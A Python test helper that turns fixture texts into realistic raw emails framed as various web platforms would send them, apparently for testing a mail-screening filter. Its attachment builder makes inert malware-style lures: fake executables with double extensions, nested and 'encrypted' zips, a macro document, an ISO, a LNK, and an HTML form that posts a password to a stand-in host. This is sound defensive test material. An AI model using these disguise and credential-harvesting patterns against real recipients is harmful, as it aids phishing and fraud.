"""Messages as sites really send them, from the texts in tests/data/screening.

A file there holds texts, each after a line `%% name | frame | host`; a frame adds the headers, the
structure and the page around it that one kind of program is known for. Header fields that begin a
text are its own. In pages `# ` is a heading, `!! ` a large code, `| a | b |` a row, and
`[words](address)` a button. `attach: kind` adds a file.
"""

# Pages stand here as programs write them, in long lines.
# ruff: noqa: E501

import base64
import html
import io
import quopri
import re
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from email.header import Header
from pathlib import Path

TEXTS = Path(__file__).resolve().parents[1] / "data" / "screening"
DATE = "Thu, 12 Mar 2026 14:07:00 +0100"
_BUTTON = re.compile(r"\[([^\]]+)\]\((\S+)\)")
_OWN = re.compile(r"([A-Z][A-Za-z-]+|attach): (.*)")
PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PROGRAM = (
    b"MZ\x90\0" + b"\0" * 56 + (128).to_bytes(4, "little") + b"\0" * 64 + b"PE\0\0" + b"\0" * 400
)
MACROS = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + b"\0" * 500
    + "_VBA_PROJECT".encode("utf-16-le")
    + b"\0" * 99
)


@dataclass(slots=True)
class Text:
    """One text: what it is called, the frame it comes in, the site that sends it."""

    name: str
    frame: str
    host: str
    headers: dict[str, str] = field(default_factory=dict)
    body: str = ""
    attached: str = ""

    @property
    def site(self) -> str:
        """The name of the site, after its host."""
        return self.host.split(".")[-2].replace("-", " ").capitalize()

    def message(self) -> bytes:
        """The message as it goes out."""
        return _FRAMES[self.frame](self).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def texts(folder: str) -> list[Text]:
    """All texts of a folder, in order."""
    return [text for path in sorted((TEXTS / folder).glob("*.txt")) for text in _read(path)]


def _read(path: Path) -> Iterator[Text]:
    for block in path.read_text(encoding="utf-8").split("%% ")[1:]:
        title, _, rest = block.partition("\n")
        name, frame, host = (piece.strip() for piece in title.split("|"))
        text = Text(f"{path.stem}-{name}", frame, host)
        lines = rest.rstrip("\n").split("\n")
        while lines and (match := _OWN.fullmatch(lines[0])) and len(text.headers) < 6:
            if match[1] == "attach":
                text.attached = match[2]
            else:
                text.headers[match[1]] = match[2]
            lines.pop(0)
            if match[1] == "Subject" and not any(_is_own(line) for line in lines[:1]):
                break
        text.body = "\n".join(lines)
        yield text


def _is_own(line: str) -> bool:
    return line.startswith(("Reply-To: ", "In-Reply-To: ", "From: ", "attach: ", "X-", "To: "))


def _head(text: Text, sender: str, *more: str) -> bytes:
    """The header: what the program writes, what the text has of its own instead, what we add."""
    found = {
        "Date": DATE,
        "Message-ID": f"<{zlib.crc32(text.name.encode()):x}.69b2c1@{text.host}>",
        "From": f"{text.site} <{sender}@{text.host}>",
        "To": "claire.martin@mail.example",
        "MIME-Version": "1.0",
    }
    found |= dict(line.split(": ", 1) for line in more) | text.headers
    return "".join(f"{name}: {_encoded(name, value)}\n" for name, value in found.items()).encode()


def _encoded(name: str, value: str) -> str:
    if value.isascii():
        return value
    if name in ("From", "Reply-To"):
        words, _, address = value.rpartition(" <")
        return f"{Header(words, 'utf-8', maxlinelen=70).encode(linesep=chr(10))} <{address}"
    return Header(value, "utf-8", maxlinelen=70).encode(linesep="\n")


def _quoted(text: str) -> bytes:
    return quopri.encodestring(text.encode("utf-8"))


def _lines(data: bytes) -> bytes:
    return base64.encodebytes(data)


def _plain(text: Text) -> str:
    """The text without marks, as the plain part says it."""
    body = _BUTTON.sub(lambda match: f"{match[1]}: {match[2]}", text.body)
    return re.sub(r"(?m)^(?:# |!! )", "", body) + "\n"


def _rows(text: Text, button: str, code: str = "font-size:32px;letter-spacing:6px") -> str:
    """The text as paragraphs of a page."""
    made: list[str] = []
    for line in text.body.split("\n"):
        shown = _BUTTON.sub(
            lambda match: (
                f'<a href="{html.escape(match[2])}" style="{button}">{html.escape(match[1])}</a>'
            ),
            line if _BUTTON.search(line) else html.escape(line),
        )
        if line.startswith("# "):
            made.append(f'<h1 style="font-size:24px;color:#222">{shown[2:]}</h1>')
        elif line.startswith("!! "):
            made.append(f'<p style="{code}">{shown[3:]}</p>')
        elif line.startswith("|"):
            cells = "".join(f"<td>{cell.strip()}</td>" for cell in shown.strip("|").split("|"))
            made.append(f"<table width='100%'><tr>{cells}</tr></table>")
        elif line:
            made.append(f'<p style="margin:0 0 16px">{shown}</p>')
    return "\n".join(made)


def _alternative(text: Text, head: bytes, page: str, boundary: str) -> bytes:
    plain = _quoted(_plain(text))
    return (
        head
        + f'Content-Type: multipart/alternative; boundary="{boundary}"\n\n'.encode()
        + f"--{boundary}\nContent-Type: text/plain; charset=utf-8\n".encode()
        + b"Content-Transfer-Encoding: quoted-printable\n\n"
        + plain
        + f"\n--{boundary}\nContent-Type: text/html; charset=utf-8\n".encode()
        + b"Content-Transfer-Encoding: quoted-printable\n\n"
        + _quoted(page)
        + f"\n--{boundary}--\n".encode()
    )


def _wordpress(text: Text) -> bytes:
    head = _head(
        text,
        "wordpress",
        "X-PHP-Originating-Script: 10005:PHPMailer.php",
        "X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)",
    )
    return (
        head
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
        + _plain(text).encode()
    )


def _cf7(text: Text) -> bytes:
    address = re.search(r"[\w.]+@[\w.]+", text.body)
    reply = f"Reply-To: {address[0]}" if address else "X-WPCF7-Content-Type: text/plain"
    head = _head(
        text,
        "wordpress",
        "To: info@" + text.host,
        reply,
        "X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)",
    )
    return (
        head
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
        + _plain(text).encode()
    )


def _woocommerce(text: Text) -> bytes:
    button = "color:#7f54b3;font-weight:normal;text-decoration:underline"
    page = f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /><title>{text.site}</title>
<style type="text/css">@media screen and (max-width: 600px){{#header_wrapper{{padding:27px 36px !important}}}}</style></head>
<body leftmargin="0" marginwidth="0" style="background-color:#f7f7f7;padding:0;text-align:center" bgcolor="#f7f7f7">
<table width="100%" id="outer_wrapper" style="background-color:#f7f7f7" bgcolor="#f7f7f7"><tr><td>
<table width="600" id="template_container" style="background-color:#fff;border:1px solid #dedede" bgcolor="#fff">
<tr><td><table id="template_header" style='background-color:#7f54b3;color:#fff' bgcolor="#7f54b3"><tr>
<td id="header_wrapper" style="padding:36px 48px"><h1 style='font-size:30px;color:#fff;background-color:inherit'>{html.escape(text.headers["Subject"])}</h1></td></tr></table></td></tr>
<tr><td><div id="body_content_inner" style="color:#636363;font-size:14px">{_rows(text, button)}</div></td></tr></table>
<p style="color:#8a8a8a;font-size:12px">{text.site} — Built with <a href="https://woocommerce.com" style="color:#7f54b3">WooCommerce</a></p>
</td></tr></table></body></html>"""
    return (
        _head(text, "shop")
        + b"Content-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n"
        + _lines(page.encode())
    )


def _prestashop(text: Text) -> bytes:
    button = "color:#fff;background:#25B9D7;padding:10px 20px;border-radius:4px"
    page = f"""<!DOCTYPE html><html><head><style>
@media only screen and (max-width:480px) {{ .hide-lg-min {{display:none !important}} }}
body {{ margin:0; background-color:#f8f9f9 }} .ttl {{ color: #363A41; }} #hidden {{ display:none }}
</style></head><body style="background:#f8f9f9">
<div style="display:none;font-size:1px;max-height:0;overflow:hidden">{html.escape(text.headers["Subject"])}</div>
<table align="center" style="background:#fff;width:604px"><tr><td><a href="https://{text.host}/"><img src="cid:logo" alt="{text.site}" width="140"></a></td></tr>
<tr><td class="ttl" style="font-family:Open Sans,sans-serif;font-size:14px;line-height:25px">{_rows(text, button)}</td></tr>
<tr><td style="border-top:1px solid #d0d0d0;font-size:12px"><a href="https://{text.host}/" style="color:#337ff1">{text.site}</a> powered by <a href="https://www.prestashop-project.org/" style="color:#337ff1">PrestaShop</a></td></tr></table></body></html>"""
    return _alternative(text, _head(text, "contact"), page, "_=_swift_1773320820_4f1c9d_=_")


def _magento(text: Text) -> bytes:
    button = "color:#ffffff;background-color:#1979c3;padding:8px 16px"
    page = f"""<html><head><style type="text/css">
/* Magento 2 */ a{{color:#006bb4}} .header{{background-color:#f5f5f5}} .footer td{{background:#f5f5f5;color:#666}}
@media (prefers-color-scheme: dark) {{ body{{background:#000000;color:#ffffff}} p{{color:#fff}} }}
</style></head><body><table class="wrapper" width="100%"><tr><td class="wrapper-inner" align="center"><table class="main" align="center">
<tr><td class="header"><a class="logo" href="https://{text.host}/"><img width="180" src="https://{text.host}/static/logo_email.png" alt="{text.site}" border="0"/></a></td></tr>
<tr><td class="main-content">{_rows(text, button)}</td></tr><tr class="footer"><td>© {text.site}</td></tr></table></td></tr></table></body></html>"""
    return (
        _head(text, "sales")
        + b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\nContent-Disposition: inline\n\n"
        + _quoted(page)
    )


def _drupal(text: Text) -> bytes:
    head = _head(text, "site", "X-Mailer: Drupal", f"Return-Path: site@{text.host}")
    return (
        head
        + b"Content-Type: text/plain; charset=UTF-8; format=flowed; delsp=yes\nContent-Transfer-Encoding: 8Bit\n\n"
        + _plain(text).encode()
    )


def _joomla(text: Text) -> bytes:
    head = _head(text, "webmaster", "X-Mailer: Joomla! 5 (PHPMailer)")
    return (
        head
        + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + _lines(_plain(text).encode())
    )


def _phpbb(text: Text) -> bytes:
    head = _head(
        text,
        "forum",
        f"Reply-To: forum@{text.host}",
        "X-Priority: 3",
        "X-MSMail-Priority: Normal",
        "X-Mailer: phpBB3",
        "X-MimeOLE: phpBB3",
        f"X-phpBB-Origin: phpbb://{text.host}",
    )
    return (
        head
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
        + _plain(text).encode()
    )


def _nextcloud(text: Text) -> bytes:
    button = "background:#0082c9;border:1px solid #0082c9;color:#ffffff;display:inline-block;padding:10px 25px"
    page = f"""<!doctype html><html lang="en"><head><style>@media only screen {{html {{min-height:100%;background:#fff}}}}
@media only screen and (max-width:610px){{table.body img{{width:auto}} table.body center{{min-width:0!important}}}}</style></head>
<body style="margin:0;background:#fff!important;color:#0a0a0a;font-size:16px"><span class="preheader" style="color:#F5F5F5;display:none!important;font-size:1px;mso-hide:all!important;opacity:0;overflow:hidden"></span>
<table class="body" style="background:#fff"><tr><td><table class="wrapper header" style="background-color:#0082c9"><tr><td><img class="logo float-center" src="https://{text.host}/apps/theming/image/logo?v=1" alt="Nextcloud" style="max-height:100px"></td></tr></table>
{_rows(text, button)}<p style="color:#C8C8C8;font-size:12px">Nextcloud - a safe home for all your data<br>This is an automatically sent email, please do not reply.</p></td></tr></table></body></html>"""
    return _alternative(text, _head(text, "nextcloud"), page, "_=_symfony_17733208_ab_=_")


def _symfony(text: Text) -> bytes:
    button = "background:#0f766e;color:#fff;padding:12px 18px;text-decoration:none"
    code = "font-size:48px;font-weight:700;letter-spacing:8px;text-align:center"
    page = f"""<html><body style="background:#eeeeee;font-family:Arial"><div style="max-width:600px;background:#ffffff;color:#222222;padding:24px">
<img src="https://{text.host}/logo.png" alt=""><div>{_rows(text, button, code)}</div></div>
<p style="color:#777777;font-size:11px">{text.site} · <a href="https://{text.host}/contact" style="color:#777777">contact</a></p></body></html>"""
    return _alternative(text, _head(text, "no-reply"), page, "aZ3kPq9w")


def _laravel(text: Text) -> bytes:
    button = "background-color:#2d3748;border:8px solid #2d3748;color:#fff;display:inline-block"
    page = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><meta name="color-scheme" content="light"><style>@media only screen and (max-width: 600px) {{ .inner-body {{ width: 100% !important; }} }}</style></head>
<body style="background-color:#ffffff;color:#718096"><table class="wrapper" style="background-color:#edf2f7"><tr><td class="header"><a href="https://{text.host}" style="color:#3d4852;font-size:19px">{text.site}</a></td></tr>
<tr><td class="body" style="background-color:#edf2f7"><table class="inner-body" style="background-color:#ffffff"><tr><td>{_rows(text, button)}</td></tr></table></td></tr>
<tr><td><p style="color:#b0adc5;font-size:12px">© 2026 {text.site}</p></td></tr></table></body></html>"""
    return _alternative(text, _head(text, "hello"), page, "kYw81Qpz")


def _discourse(text: Text) -> bytes:
    head = _head(
        text,
        "notifications",
        "X-Auto-Response-Suppress: All",
        f"List-Unsubscribe: <https://{text.host}/email/unsubscribe/8f2>",
        "Auto-Submitted: auto-generated",
    )
    page = f"<html><body>{_rows(text, 'color:#0088cc')}<hr><p style='font-size:12px;color:#666'><a href='https://{text.host}/email/unsubscribe/8f2'>unsubscribe</a></p></body></html>"
    return _alternative(text, head, page, "--==_mimepart_69b2")


def _newsletter(text: Text) -> bytes:
    """As Mailchimp and its like make them: every link counted, a preheader, a hidden padding."""
    tracked = _BUTTON.sub(
        lambda match: (
            f"[{match[1]}](https://{text.site.split()[0].lower()}.us1.list-manage.example/track/click?u=8f1c&id={zlib.crc32(match[2].encode()):x}&e=77)"
        ),
        text.body,
    )
    copy = Text(text.name, text.frame, text.host, text.headers, tracked)
    padding = "&#847; &zwnj; &nbsp; &#8199; " * 60
    page = f"""<!DOCTYPE html><html><head><title>{html.escape(text.headers["Subject"])}</title><style type="text/css">
p{{margin:10px 0}} table{{border-collapse:collapse}} h1{{color:#202020}} #outlook a{{padding:0}} .mcnPreviewText{{display:none !important}}
.templateHeader{{background-color:#f7f7f7}} .mcnTextContent,.mcnTextContent p{{color:#656565}}
@media (prefers-color-scheme: dark){{ body{{background:#111!important;color:#eee!important}} }}</style></head>
<body style="background-color:#FAFAFA"><!--[if !gte mso 9]><!----><span class="mcnPreviewText" style="display:none;font-size:0px;line-height:0px;max-height:0px;opacity:0;overflow:hidden;visibility:hidden;mso-hide:all">{html.escape(text.body[:90])} {padding}</span><!--<![endif]-->
<table bgcolor="#FAFAFA" width="100%"><tr><td><table width="600" bgcolor="#FFFFFF"><tr><td class="templateHeader"><img src="https://mcusercontent.example/8f1c/images/{zlib.crc32(text.host.encode()):x}.png" width="564" alt="{text.site}"></td></tr>
<tr><td class="mcnTextContent" style="color:#202020">{_rows(copy, "color:#FFFFFF;background-color:#2BAADF;font-weight:bold")}</td></tr>
<tr><td style="font-size:11px;color:#656565"><em>Copyright © 2026 {text.site}</em><br><a href="https://{text.host}/" style="color:#656565">www.{text.host}</a> · <a href="https://list-manage.example/unsubscribe?u=8f1c" style="color:#656565">unsubscribe from this list</a> · <a href="https://list-manage.example/profile?u=8f1c" style="color:#656565">update subscription preferences</a></td></tr></table></td></tr></table>
<img src="https://list-manage.example/track/open.php?u=8f1c" height="1" width="1" alt=""></body></html>"""
    head = _head(
        text,
        "lettre",
        f"List-Unsubscribe: <https://list-manage.example/unsubscribe?u=8f1c>, <mailto:unsubscribe-8f1c@{text.host}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"List-ID: 8f1c list <8f1c.{text.host}>",
        "Precedence: bulk",
    )
    return _alternative(copy, head, page, "_----------=_MCPart_1191")


def _bare(text: Text) -> bytes:
    """PHP's mail() with nothing but a From; what is missing was completed by the relay."""
    return _head(text, "www-data") + b"\n" + _plain(text).encode()


def _with_file(text: Text, name: str, kind: str, content: bytes) -> bytes:
    return (
        _head(text, "contact", "X-Mailer: PHPMailer 6.9.3")
        + b'Content-Type: multipart/mixed; boundary="b1_69b2"\n\n--b1_69b2\n'
        + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + _plain(text).encode()
        + f'\n--b1_69b2\nContent-Type: {kind}; name="{name}"\nContent-Transfer-Encoding: base64\n'.encode()
        + f'Content-Disposition: attachment; filename="{name}"\n\n'.encode()
        + _lines(content)
        + b"--b1_69b2--\n"
    )


def _dolibarr(text: Text) -> bytes:
    return _with_file(text, "document.pdf", "application/pdf", PDF)


def _abused(text: Text) -> bytes:
    """As a script that was put on a site sends it: text or page as it stands, maybe a file."""
    if text.attached:
        return _with_file(text, *attachment(text.attached))
    is_page = text.body.lstrip().startswith("<")
    kind = "text/html" if is_page else "text/plain"
    head = _head(text, "info", "X-Mailer: PHPMailer 5.2.9")
    return (
        head
        + f"Content-Type: {kind}; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n".encode()
        + text.body.encode()
        + b"\n"
    )


def packed(files: dict[str, bytes], *, is_sealed: bool = False) -> bytes:
    """A ZIP of files; `is_sealed` marks them as encrypted."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    data = kept.getvalue()
    if is_sealed:
        # Bit 0 of the flags, in the header of each file and in the table of contents.
        data = re.sub(
            rb"(PK\x03\x04..|PK\x01\x02....).", lambda m: m[1] + b"\1", data, flags=re.DOTALL
        )
    return data


def attachment(kind: str) -> tuple[str, str, bytes]:
    """A file of a kind: its name, its type, its content."""
    page = b"<html><form action='https://x.example/p.php'><input name=e><input type=password></form></html>"
    script = b"<html><script>document.write(unescape('%3Cform%3E'));location.href=atob('aHR0')</script></html>"
    return {
        "exe": ("Invoice.exe", "application/octet-stream", PROGRAM),
        "disguised": ("facture.pdf.exe", "application/octet-stream", PROGRAM),
        "as-pdf": ("scan.pdf", "application/pdf", PROGRAM),
        "zip-exe": ("documents.zip", "application/zip", packed({"document.exe": PROGRAM})),
        "zip-js": ("invoice_8812.zip", "application/zip", packed({"invoice_8812.js": b"var a=1;"})),
        "zip-zip-scr": (
            "a.zip",
            "application/zip",
            packed({"b.zip": packed({"photo.scr": PROGRAM})}),
        ),
        "sealed": (
            "rechnung.zip",
            "application/zip",
            packed({"rechnung.js": b"x"}, is_sealed=True),
        ),
        "docm": (
            "commande.docm",
            "application/vnd.ms-word",
            packed({"word/vbaProject.bin": MACROS}),
        ),
        "page": ("SecureMessage.html", "text/html", page),
        "script-page": ("Voicemail.htm", "text/html", script),
        "iso": (
            "order.iso",
            "application/octet-stream",
            b"\0" * 40_000 + b"ORDER.EXE;1" + b"\0" * 99,
        ),
        "lnk": ("scan.zip", "application/zip", packed({"scan.pdf.lnk": b"L\0\0\0\x01\x14\x02\0"})),
    }[kind]


_FRAMES: dict[str, Callable[[Text], bytes]] = {
    "wordpress": _wordpress,
    "cf7": _cf7,
    "woocommerce": _woocommerce,
    "prestashop": _prestashop,
    "magento": _magento,
    "drupal": _drupal,
    "joomla": _joomla,
    "phpbb": _phpbb,
    "nextcloud": _nextcloud,
    "symfony": _symfony,
    "laravel": _laravel,
    "discourse": _discourse,
    "newsletter": _newsletter,
    "plain": _bare,
    "dolibarr": _dolibarr,
    "plain-pdf": _dolibarr,
    "formidable": _dolibarr,
    "abused": _abused,
}
